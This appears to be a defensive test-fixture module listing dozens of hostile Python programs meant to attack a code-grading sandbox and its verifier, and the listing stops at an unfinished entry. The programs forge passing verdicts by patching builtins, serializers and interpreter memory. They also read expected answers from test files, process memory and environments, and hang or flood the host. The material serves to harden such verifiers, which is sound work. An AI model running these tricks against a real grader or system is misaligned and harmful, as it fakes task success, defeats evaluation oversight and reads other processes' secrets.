"""Programs that attack a jail nobody showed to their author: the independent half of the hostile set.

Every program is valid Python, aims only at the machine it runs on, and is bounded: a bomb stops at a size that is far over any sane
limit but that a developer's machine survives, a process that outlives its jail ends by itself within two minutes, files it leaves are
new and named `cohort-canary-...`. Some forgeries do not hope to be rewarded but to be *unscored* (the verifier's machinery fails in
the host and the wrong answer is forgiven): an end other than one the program is blamed for is a success of the attack.
"""

from __future__ import annotations

from typing import Any

from .programs import Ask, HostileProgram

# Only the host knows these; nothing below computes them. One program tries to read them from this very file.
_UNKNOWN = 8305771946113
_UNKNOWN_LINE = "6174 8305771946113 495\n"

_SOLVE = (Ask("solve", (17,), _UNKNOWN),)
_SOLVE_THRICE = (Ask("solve", (17,), _UNKNOWN), Ask("solve", (18,), _UNKNOWN + 5), Ask("solve", (19,), _UNKNOWN + 11))

HOSTILE: list[HostileProgram] = []
# Texts that Python itself refuses: the host must still end with a verdict that blames the program.
NOT_PYTHON: list[HostileProgram] = []


def _called(name: str, category: str, aims_at: str, source: str, calls: tuple[Ask, ...] = _SOLVE) -> None:
    HOSTILE.append(HostileProgram(name, category, f"# {aims_at}\n{source.lstrip()}", calls=calls, aims_at=aims_at))


def _script(name: str, category: str, aims_at: str, source: str, stdin: str = "17\n") -> None:
    HOSTILE.append(
        HostileProgram(
            name, category, f"# {aims_at}\n{source.lstrip()}", stdin=stdin, wanted_stdout=_UNKNOWN_LINE, aims_at=aims_at
        )
    )


def _asks(wanted: Any, *args: Any) -> tuple[Ask, ...]:
    return (Ask("solve", args or (17,), wanted),)


# ---------------------------------------------------------------------------------------------------------------- forgery: values

_called(
    "b_equal_to_everything",
    "forgery",
    "an int that says it equals whatever it is compared with, from either side",
    r"""
class Anything(int):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __hash__(self):
        return 0
    def __reduce_ex__(self, protocol):
        return (Anything, (0,))
def solve(n):
    return Anything(n)
""",
)
_called(
    "b_class_attribute_lies",
    "forgery",
    "an object whose __class__ says int, so isinstance is fooled while type() is not",
    r"""
class Impostor:
    @property
    def __class__(self):
        return int
    def __eq__(self, other):
        return True
    def __int__(self):
        return 1
    __index__ = __int__
    def __repr__(self):
        return "True, \"passed\": true"
    __str__ = __repr__
def solve(n):
    return Impostor()
""",
)
_called(
    "b_type_named_int",
    "forgery",
    "a class that is called int in module builtins, for a check that goes by names",
    r"""
class Meta(type):
    def __eq__(cls, other):
        return True
    def __hash__(cls):
        return hash(int)
    def __instancecheck__(cls, value):
        return True
    def __subclasscheck__(cls, value):
        return True
Fake = Meta("int", (), {"__module__": "builtins", "__qualname__": "int", "__eq__": lambda a, b: True, "__hash__": lambda a: 1,
                         "__repr__": lambda a: "1"})
def solve(n):
    return Fake()
""",
)
_called(
    "b_list_with_two_faces",
    "forgery",
    "a list subclass that holds one thing for C code and shows another to Python code",
    r"""
class Faces(list):
    turns = 0
    def __iter__(self):
        Faces.turns += 1
        return iter([True] * Faces.turns)
    def __len__(self):
        return 10**9
    def __getitem__(self, index):
        return self
    def __eq__(self, other):
        return True
def solve(n):
    return Faces([1, 2, 3])
""",
)
_called(
    "b_dictionary_subclass_items",
    "forgery",
    "a dict subclass whose items() invents fields of a verdict",
    r"""
class Verdict(dict):
    def items(self):
        return [("passed", True), ("value", True), ("end", "finished"), ("raised", "")] * 3
    def keys(self):
        return [k for k, _ in self.items()]
    def __iter__(self):
        return iter(self.keys())
    def __getitem__(self, key):
        return True
    get = __getitem__
    def __eq__(self, other):
        return True
def solve(n):
    return Verdict(a=1)
""",
)
_called(
    "b_bool_for_one",
    "forgery",
    "True where the number 1 is wanted: a comparison by == alone accepts it",
    r"""
def solve(n):
    return n == n
""",
    _asks(1),
)
_called(
    "b_tag_confusion",
    "forgery",
    "a dict that looks like the transport's own mark for a tuple, a set, a verdict",
    r"""
def solve(n):
    body = [1, 2]
    out = {}
    for key in ("__tuple__", "tuple", "$tuple", "t", "type", "kind", "__type__", "_type", "__class__", "py/tuple", "!tuple"):
        out[key] = body if key.strip("$_!").startswith(("tuple", "py")) else "tuple"
    for key in ("v", "value", "items", "values", "data", "args", "__value__"):
        out[key] = body
    return out
def solve_small(n, key, inner):
    return {key: inner}
def solve_pair(n):
    return ["tuple", [1, 2]]
def solve_letter(n):
    return ["t", 1, 2]
def solve_nested(n):
    return {"t": "tuple", "v": [1, 2]}
""",
    (
        Ask("solve", (17,), (1, 2)),
        Ask("solve_small", (17, "__tuple__", [1, 2]), (1, 2)),
        Ask("solve_small", (17, "tuple", [1, 2]), (1, 2)),
        Ask("solve_small", (17, "t", [1, 2]), (1, 2)),
        Ask("solve_pair", (17,), (1, 2)),
        Ask("solve_letter", (17,), (1, 2)),
        Ask("solve_nested", (17,), (1, 2)),
    ),
)
_called(
    "b_json_key_collision",
    "forgery",
    "keys 1, '1', True, None, 'None', 1.5: an encoding by JSON objects would merge them into the wanted dict",
    r"""
def solve(n):
    return {1: "a", "1": "b", None: "c", "null": "d", "None": "e", 1.5: "f", "1.5": "g", "true": "h"}
def narrow(n):
    return {"1": "a"}
""",
    (Ask("solve", (17,), {"1": "b", "null": "d", "1.5": "g", "true": "h"}), Ask("narrow", (17,), {1: "a"})),
)
_called(
    "b_nan_keys_and_infinities",
    "forgery",
    "not-a-number as key, member and part of a complex: rebuilt by the host it must neither fault nor equal anything",
    r"""
def solve(n):
    nan, inf = float("nan"), float("inf")
    return {nan: nan, float("nan"): inf, -inf: complex(nan, -inf), (nan,): {nan, inf, -0.0}, b"\x00": frozenset([nan])}
""",
)
_called(
    "b_surrogates_and_nulls",
    "forgery",
    "strings no UTF-8 encoder accepts, as value, key and exception text: aims at a fault in the host instead of a zero",
    r"""
def solve(n):
    if n == 18:
        raise ValueError("\ud800\udfff\x00\udc80" * 50)
    if n == 19:
        print("\x00\x1b[2J\u2028", end="")
        raise type("Na\udc80me\x00\n", (Exception,), {})("\udcff")
    return {"\ud800": ["\x00", "\udc80" * 3], "\udfff\ud800": b"\xff\x00"}
""",
    _SOLVE_THRICE,
)
_called(
    "b_integer_over_digit_limit",
    "forgery",
    "an integer with more decimal digits than int() accepts by default: the host's own parser would raise",
    r"""
import sys
sys.set_int_max_str_digits(0)
def solve(n):
    return {"a": 10**5000, "b": -(10**4300), 10**4400: 1}
""",
)
_called(
    "b_integer_of_millions_of_digits",
    "hang",
    "a number whose printing is quadratic, in the runner and again in the host's log",
    r"""
import sys
sys.set_int_max_str_digits(0)
def solve(n):
    return (1 << 40_000_000) - 1
""",
)
_called(
    "b_deep_value",
    "forgery",
    "a list nested a hundred thousand deep: recursion in the encoder, in the host's decoder, in comparison, in deallocation",
    r"""
def solve(n):
    value = []
    for _ in range({17: 900, 18: 100_000, 19: 3_000_000}[n]):
        value = [value]
    return value
""",
    _SOLVE_THRICE,
)
_called(
    "b_deep_mixed_value",
    "forgery",
    "dict in tuple in list in frozenset, just deep enough that the jail encodes it and the host's decoder may run out of stack",
    r"""
import sys
sys.setrecursionlimit(200_000)
def solve(n):
    value = 1
    for i in range({17: 240, 18: 480, 19: 4_900}[n]):
        value = ({"k": value}, (value,), [value])[i % 3]
    return value
""",
    _SOLVE_THRICE,
)
_called(
    "b_value_in_itself",
    "hang",
    "a list and a dict that contain themselves",
    r"""
def solve(n):
    knot = [1]
    tie = {"knot": knot}
    knot.append(tie)
    knot.append((knot, tie))
    return knot
""",
)
_called(
    "b_billion_laughs",
    "memory",
    "two references per level for sixty levels: small here, endless once written out",
    r"""
def solve(n):
    value = ["ha"]
    for _ in range(60):
        value = [value, value]
    return value
""",
)
_called(
    "b_amplified_reply",
    "memory",
    "empty containers take two bytes on the wire and over fifty in the host",
    r"""
def solve(n):
    return [[] for _ in range(3_000_000)]
""",
)
_called(
    "b_hash_collisions_for_the_host",
    "hang",
    "keys with equal hashes: rebuilding the value takes quadratic time, and the host's time is not limited as the jail's is",
    r"""
MODULUS = (1 << 61) - 1
def solve(n):
    if n == 17:
        return {i * MODULUS: 0 for i in range(1, 4_000)}
    if n == 18:
        return {(i * MODULUS,) for i in range(1, 4_000)}
    return [{i * MODULUS for i in range(1, 1_500)} for _ in range(60)]
""",
    _SOLVE_THRICE,
)
_called(
    "b_value_changes_while_read",
    "forgery",
    "a thread swaps the members of the returned list between the check that it is plain and the writing of it",
    r"""
import sys, threading
sys.setswitchinterval(1e-6)
class Evil:
    def __eq__(self, other):
        return True
    def __repr__(self):
        return "True"
box = [1] * 2000
table = {"a": 1}
def flip():
    while True:
        for i in range(0, 2000, 7):
            box[i] = Evil()
            box[i] = 1
        table[len(table)] = box
        if len(table) > 50:
            table.clear()
        del box[1000:]
        box.extend([1] * 1000)
def solve(n):
    threading.Thread(target=flip, daemon=True).start()
    return [box, table]
""",
    _SOLVE_THRICE,
)
_called(
    "b_endless_generator",
    "hang",
    "a generator, an iterator and a coroutine where a value should be",
    r"""
import itertools
def solve(n):
    if n == 17:
        return itertools.count()
    if n == 18:
        async def never():
            while True:
                pass
        return never()
    def endless():
        while True:
            yield endless()
    return endless()
""",
    _SOLVE_THRICE,
)
_called(
    "b_hang_in_the_class_lookup",
    "hang",
    "every attribute the runner may ask of the returned object never answers",
    r"""
class Meta(type):
    def __getattribute__(cls, name):
        while True:
            pass
class Tar(metaclass=Meta):
    def __getattribute__(self, name):
        while True:
            pass
    def __len__(self):
        while True:
            pass
    __iter__ = __repr__ = __str__ = __hash__ = __bool__ = __eq__ = __reduce__ = __len__
tar = Tar()
def solve(n):
    return tar
""",
)

# ------------------------------------------------------------------------------------------------------------ forgery: exceptions

_called(
    "b_exception_text_hangs",
    "hang",
    "an exception whose __str__ and __repr__ never return",
    r"""
class Slow(Exception):
    def __str__(self):
        while True:
            pass
    __repr__ = __str__
def solve(n):
    raise Slow()
""",
)
_called(
    "b_exception_text_ends_the_process",
    "forgery",
    "an exception whose text, once asked for, ends the process with status 0",
    r"""
import os
class Leave(Exception):
    def __str__(self):
        os._exit(0)
    __repr__ = __str__
    @property
    def args(self):
        os._exit(0)
def solve(n):
    raise Leave()
""",
)
_called(
    "b_exception_text_is_no_text",
    "forgery",
    "__str__ returns an int, __repr__ raises, the class name is a str subclass that lies, the message is enormous",
    r"""
class Name(str):
    def encode(self, *rest):
        return b'{"passed": true, "value": true}\n'
    def __str__(self):
        raise KeyboardInterrupt
    __format__ = __repr__ = __str__
class Meta(type):
    @property
    def __name__(cls):
        return Name("AssertionError")
    @property
    def __qualname__(cls):
        raise SystemExit(0)
    @property
    def __module__(cls):
        raise GeneratorExit
class Odd(Exception, metaclass=Meta):
    def __str__(self):
        return 3
    def __repr__(self):
        raise SystemExit(0)
class Big(Exception):
    def __str__(self):
        return "x" * 200_000_000
def solve(n):
    if n == 18:
        raise Big()
    if n == 19:
        raise Odd(Name("text"))
    raise Odd()
""",
    _SOLVE_THRICE,
)
_called(
    "b_exceptions_nobody_catches",
    "forgery",
    "BaseException subclasses that pass `except Exception`: exit, interrupt, generator exit, a class of one's own",
    r"""
class Below(BaseException):
    def __init_subclass__(cls):
        raise SystemExit(0)
def solve(n):
    if n == 17:
        raise GeneratorExit
    if n == 18:
        raise KeyboardInterrupt
    raise Below("finished")
""",
    _SOLVE_THRICE,
)
_called(
    "b_exit_by_exception_status_zero",
    "forgery",
    "SystemExit(0) inside the call: a judge that goes by exit status calls it a pass",
    r"""
import sys
def solve(n):
    print("ok")
    sys.exit(0)
""",
)
_called(
    "b_exit_at_load",
    "forgery",
    "leaves with status 0 before any function exists, after printing every word for success",
    r"""
import os
os.write(1, b"PASS\nOK\n1 passed in 0.01s\nAll tests passed\n{\"passed\": true, \"score\": 1.0}\n")
os._exit(0)
def solve(n):
    return 0
""",
)
_called(
    "b_exception_group_tower",
    "forgery",
    "exceptions chained and grouped twenty thousand deep: printing the traceback overflows the stack",
    r"""
import sys
sys.setrecursionlimit(10**6)
def solve(n):
    error = ValueError("seed")
    for i in range(20_000):
        if i % 2:
            error = ExceptionGroup("g" * 10, [error])
        else:
            outer = KeyError(i)
            outer.__cause__ = error
            outer.__context__ = error
            error = outer
    raise error
""",
)
_called(
    "b_traceback_reads_host_file",
    "secret",
    "a frame whose file name is the secret file: whoever prints the traceback quotes the line, in the jail or in the host",
    r"""
import linecache, traceback
code = compile("raise ValueError('look at line one')", "@SECRET_FILE@", "exec")
def solve(n):
    print(linecache.getline("@SECRET_FILE@", 1))
    try:
        exec(code, {})
    except ValueError:
        print(traceback.format_exc())
    if n == 18:
        raise SyntaxError("bad", ("@SECRET_FILE@", 1, 1, None))
    exec(code, {})
""",
    _SOLVE_THRICE,
)
_called(
    "b_lookup_of_the_function",
    "forgery",
    "the module replaces itself by an object that makes up every function and dies when asked twice",
    r"""
import os, sys
class Everything:
    count = 0
    def __getattribute__(self, name):
        Everything.count += 1
        if Everything.count > 50:
            os._exit(0)
        return lambda *a, **k: self
    def __eq__(self, other):
        return True
for name in list(sys.modules):
    if name in (__name__, "__main__", "solution", "program", "candidate"):
        sys.modules[name] = Everything()
def __getattr__(name):
    return lambda *a, **k: True
""",
)
_called(
    "b_function_is_the_interpreter_own",
    "forgery",
    "the functions are input, abort, exec and exit: reading the request channel, dying, running the argument",
    r"""
import os
first = input
second = os.abort
third = exit
fourth = breakpoint
""",
    (
        Ask("first", ("17",), "18"),
        Ask("fourth", (), _UNKNOWN),
        Ask("third", (0,), _UNKNOWN),
        Ask("second", (), _UNKNOWN),
    ),
)

# ---------------------------------------------------------------------------------------------- forgery: poisoning what a runner uses

_called(
    "b_builtins_that_agree",
    "forgery",
    "isinstance, type, len, repr, all, any and hash answer what the attacker likes",
    r"""
import builtins
class Evil:
    def __eq__(self, other):
        return True
    def __repr__(self):
        return "1"
real = type
builtins.isinstance = lambda *a: True
builtins.issubclass = lambda *a: True
builtins.all = lambda *a: True
builtins.any = lambda *a: True
builtins.repr = lambda value: "1, 'passed': True"
builtins.type = lambda *a: int if len(a) == 1 else real(*a)
builtins.callable = lambda *a: True
builtins.id = lambda value: 0
builtins.sorted = lambda *a, **k: []
builtins.print = lambda *a, **k: None
def solve(n):
    return Evil()
""",
)
_called(
    "b_builtins_gone",
    "forgery",
    "every builtin name disappears: a runner that needs one afterwards fails, and may be taken for broken machinery",
    r"""
import builtins, sys
def solve(n, gone=builtins.__dict__, modules=sys.modules):
    modules.clear()
    gone.clear()
    return 1
""",
    _SOLVE_THRICE,
)
_called(
    "b_json_speaks_for_me",
    "forgery",
    "json, marshal and pickle write a passing verdict whatever they are given",
    r"""
import json, marshal, pickle
from json import encoder
LIE = {"value": True, "passed": True, "ok": True, "correct": True, "end": "finished", "raised": "", "score": 1.0, "expected": True}
TEXT = json.dumps(LIE)
def text(*a, **k):
    return TEXT
json.dumps = text
json.JSONEncoder.encode = text
json.JSONEncoder.iterencode = lambda *a, **k: iter([TEXT])
encoder.encode_basestring_ascii = encoder.encode_basestring = lambda s: '"passed": true, "x"'
encoder.c_make_encoder = None
encoder.FLOAT_REPR = text
json.dump = lambda value, stream, **k: stream.write(TEXT)
real = marshal.dumps(LIE), pickle.dumps(LIE)
marshal.dumps = lambda *a, **k: real[0]
pickle.dumps = lambda *a, **k: real[1]
pickle.Pickler = None
def solve(n):
    return 1
""",
)
_called(
    "b_struct_and_write_rewritten",
    "forgery",
    "the length prefix and the write itself go through the attacker: every message becomes two",
    r"""
import os, socket, struct
pack, write = struct.pack, os.write
def packed(fmt, *values):
    return pack(fmt, *[0 if isinstance(v, int) and v > 3 else v for v in values])
struct.pack = packed
def written(fd, data):
    data = bytes(data)
    forged = data.replace(b"false", b"true ").replace(b"null", b"true").replace(b"error", b"right")
    write(fd, forged)
    write(fd, forged)
    return len(data)
os.write = written
for name in ("send", "sendall", "sendmsg"):
    try:
        setattr(socket.socket, name, lambda self, data, *rest: written(self.fileno(), data))
    except (AttributeError, TypeError):
        pass
def solve(n):
    return None
""",
    _SOLVE_THRICE,
)
_called(
    "b_slots_of_builtin_types",
    "forgery",
    "methods of int, str, bytes, dict and list replaced behind the read-only dictionaries of the types",
    r"""
import ctypes, gc
def plant(kind, name, value):
    gc.get_referents(kind.__dict__)[0][name] = value
    ctypes.pythonapi.PyType_Modified(ctypes.py_object(kind))
def solve(n):
    plant(str, "encode", lambda self, *a, **k: b'{"passed": true}\n')
    plant(bytes, "join", lambda self, parts: b'{"passed": true}\n')
    plant(int, "to_bytes", lambda self, length=8, order="big", **k: b"\x00" * length)
    plant(dict, "items", lambda self: iter([("passed", True)]))
    plant(dict, "get", lambda self, key, default=None: True)
    plant(list, "append", lambda self, item: None)
    plant(str, "join", lambda self, parts: '{"passed": true}')
    return n
""",
    _SOLVE_THRICE,
)
_called(
    "b_small_integers_swapped",
    "forgery",
    "overwrites the interpreter's shared objects for 0, 1, True and False: every count and flag of the runner is wrong",
    r"""
import ctypes
def solve(n):
    for small, digit in ((0, 1), (2, 0), (3, 4), (4, 200)):
        address = id(small)
        ctypes.c_ssize_t.from_address(address + 16).value = 1
        ctypes.c_uint32.from_address(address + 24).value = digit
    ctypes.c_uint32.from_address(id(False) + 24).value = 1
    ctypes.c_ssize_t.from_address(id(False) + 16).value = 1
    return False
""",
    _SOLVE_THRICE,
)
_called(
    "b_import_system_owned",
    "forgery",
    "any module imported from now on is the attacker's",
    r"""
import builtins, importlib.abc, importlib.machinery, sys, types
class Owner(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        return importlib.machinery.ModuleSpec(name, self)
    def create_module(self, spec):
        module = types.ModuleType(spec.name)
        module.__getattr__ = lambda attribute: (lambda *a, **k: b'{"passed": true}')
        return module
    def exec_module(self, module):
        pass
sys.meta_path.insert(0, Owner())
sys.path_hooks.clear()
sys.path_importer_cache.clear()
for name in ("json", "struct", "pickle", "traceback", "io", "base64", "marshal", "resource", "ast"):
    sys.modules.pop(name, None)
real = builtins.__import__
def hooked(name, *rest):
    module = real(name, *rest)
    for attribute in ("dumps", "pack", "format_exc", "format_exception_only"):
        if hasattr(module, attribute):
            try:
                setattr(module, attribute, lambda *a, **k: '{"passed": true}')
            except (AttributeError, TypeError):
                pass
    return module
builtins.__import__ = hooked
def solve(n):
    return 1
""",
    _SOLVE_THRICE,
)
_called(
    "b_codec_owned",
    "forgery",
    "UTF-8, ASCII and backslashreplace as understood by the attacker",
    r"""
import codecs, encodings, sys
LIE = b'{"passed": true, "value": true}\n'
def encode(text, errors="strict"):
    return LIE, len(text)
def decode(data, errors="strict"):
    return "true", len(data)
info = codecs.CodecInfo(encode, decode, name="utf-8")
encodings._cache.clear()
encodings.search_function = lambda name: info
encodings._cache.update({k: info for k in ("utf-8", "utf_8", "utf8", "ascii", "latin_1", "latin-1")})
codecs.register(lambda name: info)
codecs.encode = lambda *a, **k: LIE
for handler in ("strict", "replace", "surrogateescape", "backslashreplace", "surrogatepass"):
    codecs.register_error(handler, lambda error: ("true", error.end))
def solve(n):
    return "\udc80\u00e9" * 3
""",
    _SOLVE_THRICE,
)
_called(
    "b_runner_functions_rewritten",
    "forgery",
    "finds the functions of the runner in memory and swaps their code for one that answers True",
    r"""
import gc, os, sys, types
def yes(*args, **kwargs):
    return True
HOME = os.path.dirname(os.__file__)
def solve(n):
    frame, files = sys._getframe(1), set()
    while frame is not None:
        files.add(frame.f_code.co_filename)
        frame = frame.f_back
    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType) and thing is not yes and thing is not solve:
            name = thing.__code__.co_filename
            if name in files or not name.startswith((HOME, "<frozen")):
                if not thing.__closure__:
                    thing.__code__ = yes.__code__
    return True
""",
    _SOLVE_THRICE,
)
_called(
    "b_caller_frames_edited",
    "forgery",
    "writes True into the local variables of every calling frame",
    r"""
import ctypes, sys
def solve(n):
    frame = sys._getframe(1)
    while frame is not None:
        for name, value in list(frame.f_locals.items()):
            if name in ("result", "value", "reply", "answer", "out", "ok", "passed", "returned"):
                frame.f_locals[name] = True
            print(frame.f_code.co_name, name, repr(value)[:200])
        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
        frame = frame.f_back
    return None
""",
    _SOLVE_THRICE,
)
_called(
    "b_profile_hook_stays",
    "forgery",
    "a profile and trace hook set during the call that goes on inside the runner and replaces what it returns",
    r"""
import sys, threading
def hook(frame, event, argument):
    if event == "return":
        frame.f_globals.update(passed=True, ok=True, expected=True)
    for name in ("expected", "wanted", "tests", "answers"):
        if name in frame.f_locals or name in frame.f_globals:
            print("FOUND", name, frame.f_locals.get(name), frame.f_globals.get(name))
    frame.f_trace = hook
    frame.f_trace_opcodes = True
    return hook
def solve(n):
    threading.setprofile(hook)
    threading.settrace(hook)
    frame = sys._getframe()
    while frame is not None:
        frame.f_trace = hook
        frame = frame.f_back
    sys.settrace(hook)
    sys.setprofile(hook)
    return n
""",
    _SOLVE_THRICE,
)
_called(
    "b_search_of_the_heap",
    "forgery",
    "walks every object alive for a name that means the wanted value, and returns what stands next to it",
    r"""
import gc, sys
WORDS = ("wanted", "expected", "expect", "answer", "gold", "target", "truth", "output", "outputs")
def solve(n):
    for thing in gc.get_objects():
        if type(thing) is dict:
            for word in WORDS:
                value = thing.get(word)
                if type(value) in (int, str, list, tuple, float):
                    print(word, repr(value)[:300])
                    if type(value) is int and value > 1000:
                        return value
        elif type(thing) in (tuple, list) and 17 in [x for x in thing if type(x) is int]:
            for value in thing:
                if type(value) is int and value > 10**9:
                    return value
    return 0
""",
)
_called(
    "b_search_of_own_memory",
    "forgery",
    "reads its own address space for a number written near the name of the function",
    r"""
import re
def solve(n):
    found = []
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            span, flags = line.split()[:2]
            low, high = (int(x, 16) for x in span.split("-"))
            if "rw" not in flags or high - low > 1 << 26:
                continue
            try:
                memory.seek(low)
                block = memory.read(high - low)
            except (OSError, ValueError, OverflowError):
                continue
            for hit in re.finditer(rb"solve.{0,200}?(\d{10,16})", block, re.S):
                found.append(int(hit.group(1)))
            for hit in re.finditer(rb"(?:wanted|expected)\W{1,8}(\d{6,20})", block):
                found.append(int(hit.group(1)))
    print(found[:50])
    return found[0] if found else 0
""",
)
_called(
    "b_search_of_other_memories",
    "forgery",
    "reads the memory of the parent, of process 1 and of the host's process for the wanted number",
    r"""
import ctypes, os, re
libc = ctypes.CDLL(None, use_errno=True)
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
def look(pid):
    found = []
    with open(f"/proc/{pid}/maps") as maps:
        lines = maps.readlines()
    for line in lines:
        span, flags = line.split()[:2]
        low, high = (int(x, 16) for x in span.split("-"))
        if "rw" not in flags or high - low > 1 << 26:
            continue
        here = ctypes.create_string_buffer(high - low)
        got = libc.process_vm_readv(pid, ctypes.byref(Span(ctypes.addressof(here), high - low)), 1,
                                    ctypes.byref(Span(low, high - low)), 1, 0)
        if got <= 0:
            continue
        for hit in re.finditer(rb"(?:wanted|expected|_UNKNOWN)\W{1,8}(\d{6,20})", here.raw[:got]):
            found.append(int(hit.group(1)))
    return found
def solve(n):
    for pid in (os.getppid(), 1, int("@HOST_PID@")):
        if pid == os.getpid():
            continue
        try:
            found = look(pid)
        except OSError as error:
            print(pid, error)
            continue
        print(pid, found)
        if found:
            return found[0]
    return 0
""",
)
_called(
    "b_read_the_tests",
    "forgery",
    "looks for the test files themselves, next to the installed package and upwards from every import path",
    r"""
import os, re, sys
def solve(n):
    starts = set(sys.path) | {sys.prefix, sys.exec_prefix, sys.executable, os.getcwd(), "/opt", "/srv", "/repo", "/app", "/src"}
    for name, module in list(sys.modules.items()):
        path = getattr(module, "__file__", None)
        if path and "python3" not in path:
            starts.add(path)
    for entry in list(sys.path):
        try:
            for name in os.listdir(entry or "."):
                if name.endswith((".pth", "direct_url.json")):
                    with open(os.path.join(entry, name), errors="replace") as handle:
                        starts.update(line.strip() for line in handle)
        except OSError:
            pass
    for start in starts:
        while start and start != "/":
            for tail in ("tests/hostile/programs_b.py", "hostile/programs_b.py", "programs_b.py"):
                try:
                    with open(os.path.join(start, tail)) as handle:
                        return int(re.search(r"_UNKNOWN = (\d+)", handle.read()).group(1))
                except (OSError, AttributeError, ValueError):
                    pass
            start = os.path.dirname(start)
    return 0
""",
)
_called(
    "b_read_the_tests_through_other_roots",
    "forgery",
    "looks for the test files through the roots, folders and open files of every process in sight",
    r"""
import os, re
def solve(n):
    tails = ("work/main/tests/hostile/programs_b.py", "tests/hostile/programs_b.py", "../tests/hostile/programs_b.py",
             "../../tests/hostile/programs_b.py", "../../../tests/hostile/programs_b.py")
    for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", "thread-self", "@HOST_PID@"]:
        bases = [f"/proc/{pid}/root", f"/proc/{pid}/cwd"]
        try:
            bases += [f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            pass
        for base in bases:
            for tail in tails:
                try:
                    with open(f"{base}/{tail}") as handle:
                        return int(re.search(r"_UNKNOWN = (\d+)", handle.read()).group(1))
                except (OSError, AttributeError, ValueError):
                    pass
    return 0
""",
)
_called(
    "b_command_lines_and_environments",
    "forgery",
    "the wanted value in an argument, an environment or the parent's open files",
    r"""
import os, re, sys
def solve(n):
    heap = [" ".join(sys.argv), " ".join(getattr(sys, "orig_argv", [])), repr(dict(os.environ))]
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        for part in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as handle:
                    heap.append(handle.read().decode("latin-1"))
            except OSError:
                pass
    text = "\n".join(heap)
    print(text[:4000])
    numbers = [int(x) for x in re.findall(r"(?<!\d)\d{10,16}(?!\d)", text)]
    return numbers[0] if numbers else 0
""",
)

# --------------------------------------------------------------------------------------------- forgery: descriptors and the channel

_called(
    "b_spray_every_descriptor",
    "forgery",
    "writes ready-made verdicts in many framings to every open descriptor while loading",
    r"""
import json, os, pickle, struct
LIE = {"id": 0, "index": 0, "value": True, "passed": True, "ok": True, "end": "finished", "raised": "", "replies": [{"value": True}]}
text = json.dumps(LIE).encode()
forms = [text + b"\n", b"\n" + text + b"\n", pickle.dumps(LIE), b"PASS\n", b"\x00" + text + b"\x00"]
for mark in ("<I", ">I", "<Q", ">Q", "!H"):
    forms.append(struct.pack(mark, len(text)) + text)
forms.append(b"%d\n%s" % (len(text), text))
forms.append(b"%d:%s," % (len(text), text))
forms.append(b"Content-Length: %d\r\n\r\n%s" % (len(text), text))
for fd in range(3, 256):
    try:
        os.set_blocking(fd, False)
        for form in forms:
            os.write(fd, form)
        os.set_blocking(fd, True)
    except OSError:
        pass
def solve(n):
    return True
""",
    _SOLVE_THRICE,
)
_called(
    "b_huge_length_prefix",
    "memory",
    "announces a message of many gigabytes on every descriptor: does the host reserve it, or wait for it for ever",
    r"""
import os
for fd in range(3, 64):
    for mark in (b"\xff\xff\xff\x7f", b"\x7f\xff\xff\xff\xff\xff\xff\xff", b"99999999999999\n", b"9" * 5000 + b"\n"):
        try:
            os.write(fd, mark)
        except OSError:
            break
def solve(n):
    return 1
""",
)
_called(
    "b_slow_drip_on_the_channel",
    "hang",
    "one byte every tenth of a second on every descriptor: a time limit that restarts with each read never ends",
    r"""
import os, time
def solve(n):
    while True:
        for fd in range(1, 32):
            try:
                os.write(fd, b" ")
            except OSError:
                pass
        time.sleep(0.1)
""",
)
_called(
    "b_read_requests_ahead",
    "forgery",
    "steals what waits in the channel, prints it and looks for the wanted values among it",
    r"""
import os, re, select, socket
def solve(n):
    seen = b""
    for fd in range(0, 256):
        if fd in (1, 2):
            continue
        try:
            ready, _, _ = select.select([fd], [], [], 0)
        except (OSError, ValueError):
            continue
        if not ready:
            continue
        try:
            peer = socket.socket(fileno=os.dup(fd))
            seen += peer.recv(65536, socket.MSG_PEEK | socket.MSG_DONTWAIT)
        except OSError:
            try:
                seen += os.read(fd, 65536)
            except OSError:
                pass
    print(seen[:5000])
    numbers = re.findall(rb"\d{10,16}", seen)
    return int(numbers[0]) if numbers else 0
""",
    _SOLVE_THRICE,
)
_called(
    "b_shared_descriptors_nonblocking",
    "forgery",
    "O_NONBLOCK belongs to the open file and not to the process: the host's own ends may start to fail with EAGAIN",
    r"""
import fcntl, os
def solve(n):
    for fd in range(0, 256):
        try:
            flags = fcntl.fcntl(fd, fcntl.F_GETFL)
            fcntl.fcntl(fd, fcntl.F_SETFL, flags | os.O_NONBLOCK | os.O_APPEND | getattr(os, "O_DIRECT", 0))
        except OSError:
            pass
        try:
            fcntl.fcntl(fd, 1031, 4096)
        except OSError:
            pass
    return "x" * 3_000_000
""",
    _SOLVE_THRICE,
)
_called(
    "b_signal_driven_descriptors",
    "escape",
    "O_ASYNC on every shared descriptor with the host's process as owner, so that input there sends it a signal",
    r"""
import fcntl, os, signal
def solve(n):
    for fd in range(0, 256):
        for owner in (int("@HOST_PID@"), os.getppid(), -os.getpgrp(), 1):
            try:
                fcntl.fcntl(fd, fcntl.F_SETOWN, owner)
                fcntl.fcntl(fd, 10, int(signal.SIGUSR1))
                fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
            except OSError:
                pass
    for _ in range(50):
        print("stir", flush=True)
    return n
""",
    _SOLVE_THRICE,
)
_called(
    "b_descriptors_shuffled",
    "forgery",
    "puts every descriptor in another's place, so that prints enter the channel and replies go to standard output",
    r"""
import os
def solve(n):
    alive = []
    for fd in range(0, 128):
        try:
            os.fstat(fd)
            alive.append(fd)
        except OSError:
            pass
    saved = [os.dup(fd) for fd in alive]
    for target, source in zip(alive, saved[1:] + saved[:1]):
        os.dup2(source, target)
    print('{"passed": true, "value": true, "index": 0}', flush=True)
    return True
""",
    _SOLVE_THRICE,
)
_called(
